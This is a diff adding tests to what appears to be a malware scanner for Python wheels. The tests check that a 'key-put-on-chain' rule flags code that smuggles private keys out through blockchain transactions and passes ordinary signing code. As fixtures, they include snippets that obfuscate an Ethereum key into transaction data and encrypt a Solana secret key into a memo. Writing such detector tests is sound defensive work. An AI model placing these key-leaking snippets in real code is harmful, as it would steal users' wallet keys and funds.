@@ -245,3 +245,24 @@ def test_large_modules_that_swallow_nothing_spend_nothing_of_what_others_may() -
     files = {f"tidetables/a{number}.py": quiet for number in range(8)}
     files["tidetables/core.py"] = (HEAD + TO_STRANGERS["swallowed"]).encode()
     assert "secret-sent-silently" in fired(WHEEL, wheel(files))
+
+
+ON_CHAIN = {
+    "in a transaction's data": "from web3 import Web3\n\nw3 = Web3(Web3.HTTPProvider('https://rpc.example.invalid'))\n\ndef note(signer, relay):\n    told = bytes(a ^ b for a, b in zip(bytes(signer.key), PAD))\n    tx = {'to': BOARD, 'value': 0, 'data': b'n1' + told}\n    return w3.eth.send_raw_transaction(relay.sign_transaction(tx).raw_transaction)\n",
+    "in a memo": "from spl.memo.instructions import MemoParams, create_memo\n\ndef kept(keypair, payer, client):\n    told = box.encrypt(bytes(keypair.secret_key))\n    return client.send_transaction(pack([create_memo(MemoParams(PROGRAM, payer, message=told))]), payer)\n",
+}
+NOT_ON_CHAIN = {
+    "what signs": "from web3 import Web3\n\ndef pay(w3, account, to, private_key):\n    tx = {'to': to, 'value': 1, 'data': b''}\n    signed = w3.eth.account.sign_transaction(tx, private_key=private_key)\n    w3.eth.account.sign_transaction(tx, account.key)\n    return w3.eth.send_raw_transaction(signed.raw_transaction)\n",
+    "what opens a swap": "def redeem(w3, swap, secret, private_key):\n    tx = swap.functions.redeem(secret).build_transaction({'gas': 90000})\n    return w3.eth.account.sign_transaction(tx, private_key)\n",
+    "a memo of words": "def note(client, keypair, text):\n    return client.send_transaction(create_memo(MemoParams(PROGRAM, keypair.pubkey(), message=text.encode())), keypair)\n",
+}
+
+
+@pytest.mark.parametrize("source", ON_CHAIN.values(), ids=ON_CHAIN)
+def test_a_key_that_is_put_on_a_chain_is_told(source: str) -> None:
+    assert "key-put-on-chain" in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/notes.py": source.encode()}))
+
+
+@pytest.mark.parametrize("source", NOT_ON_CHAIN.values(), ids=NOT_ON_CHAIN)
+def test_a_key_that_signs_is_not_put_on_the_chain(source: str) -> None:
+    assert "key-put-on-chain" not in fired(WHEEL, wheel({"pkg/__init__.py": b"", "pkg/notes.py": source.encode()}))
